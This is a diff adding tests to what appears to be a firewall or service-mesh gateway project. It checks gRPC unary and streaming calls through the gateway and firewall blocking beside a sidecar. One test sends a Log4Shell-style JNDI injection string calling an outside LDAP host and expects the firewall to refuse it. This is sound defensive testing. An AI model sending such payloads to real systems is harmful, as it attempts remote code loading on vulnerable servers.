@@ -5,23 +5,28 @@ from __future__ import annotations
 import asyncio
 import http.client
 import json
+import queue
 from collections.abc import AsyncIterator
 from contextlib import asynccontextmanager
 from dataclasses import replace
 from typing import Any
 from urllib.parse import quote
 
+import grpc
 import pytest
 
 from support.attacks import ATTACKS, BROWSER, JSON, ORDINARY, Sent, send
 from support.backend import Backend, backend
 from support.carried import at
-from support.compiled import gateway, inputs, warnings
+from support.compiled import gateway, inputs, sidecar, warnings
 from support.edge import edge, policy
+from support.grpc_echo import serve
 from support.led_mesh import LedMesh, led_mesh
 from support.running import free_port
 from tulle.compile import build, view
 from tulle.compile.explain import Request, explain_view
+from tulle.model.proxy import InboundPort
+from tulle.model.service import Protocol
 from tulle.server.firewall.engine import Engine, missing
 from tulle.server.firewall.service import FirewallService
 from tulle.server.firewall.words import NoFirewallError
@@ -344,3 +349,70 @@ def test_what_apply_says_where_the_library_is_missing() -> None:
         assert f"not in force, {then}: it is not here" in said
         (said,) = warnings(build(replace(given, broken_firewalls={"istio-system/edge": "line 3"})), "Firewall/edge")
         assert f"not in force, {then}: line 3" in said
+
+
+GRPC = """
+apiVersion: gateway.networking.k8s.io/v1
+kind: Gateway
+metadata: {{name: front, namespace: default}}
+spec: {{gatewayClassName: tulle, listeners: [{{name: http, port: {port}, protocol: HTTP}}]}}
+---
+apiVersion: gateway.networking.k8s.io/v1
+kind: GRPCRoute
+metadata: {{name: echo, namespace: default}}
+spec: {{parentRefs: [{{name: front}}], rules: [{{backendRefs: [{{name: echo, port: 80}}]}}]}}
+---
+apiVersion: tulle.dev/v1
+kind: Firewall
+metadata: {{name: echo, namespace: default}}
+spec: {{targetRefs: [{{group: gateway.networking.k8s.io, kind: GRPCRoute, name: echo}}], required: true}}
+"""
+
+
+def test_calls_of_grpc_go_on_as_they_stream() -> None:
+    """Their headers are looked at."""
+
+    def call(port: int) -> None:
+        with grpc.insecure_channel(f"127.0.0.1:{port}") as channel:
+            say, talk = channel.unary_unary("/test.Echo/Say"), channel.stream_stream("/test.Echo/Talk")
+            assert say(b"hello", timeout=10) == b"echo:hello"
+            asked: queue.Queue[bytes | None] = queue.Queue()
+            answers = talk(iter(asked.get, None), timeout=10)
+            for word in (b"one", b"two"):
+                asked.put(word)
+                assert next(answers) == b"echo:" + word, "each is answered before the next is sent"
+            asked.put(None)
+            with pytest.raises(grpc.RpcError) as refused:
+                say(b"hello", timeout=10, metadata=(("x-note", "${jndi:ldap://203.0.113.7/a}"),))
+            assert refused.value.code() is grpc.StatusCode.PERMISSION_DENIED
+
+    async def whole() -> None:
+        port, service = free_port(), FirewallService()
+        server, echo = serve("echo", 0)
+        try:
+            mine = at("echo", 80, echo, id="echo", protocol=Protocol.GRPC)
+            text = GRPC.format(port=port)
+            async with led_mesh(replace(gateway(), bind="127.0.0.1"), text, mine, beside=(service.handler(),)) as led:
+                assert led.rejections == []
+                service.know(led.built.mesh.structure.rules.dressing.walls.every)
+                await asyncio.to_thread(call, port)
+                assert service.tally.requests["default/echo", "refused"] == 1
+        finally:
+            server.stop(0)
+
+    asyncio.run(whole())
+
+
+def test_beside_a_workload() -> None:
+    port, service = free_port(), FirewallService()
+    plain = "apiVersion: security.istio.io/v1\nkind: PeerAuthentication\nmetadata: {name: plain}\nspec: {mtls: {mode: DISABLE}}"
+    wall = "apiVersion: tulle.dev/v1\nkind: Firewall\nmetadata: {name: far}\nspec: {selector: {matchLabels: {app: far}}}"
+
+    async def whole() -> None:
+        with backend("far") as far:
+            node = sidecar(app="far", inbound=(InboundPort(service_port=80, listen=port, target=far.port),))
+            async with led_mesh(node, f"{plain}\n---\n{wall}", beside=(service.handler(),)) as led:
+                service.know(led.built.mesh.structure.rules.dressing.walls.every)
+                assert [await asyncio.to_thread(send, port, Sent(path=path)) for path in (SCRIPT, "/")] == [403, 200]
+
+    asyncio.run(whole())
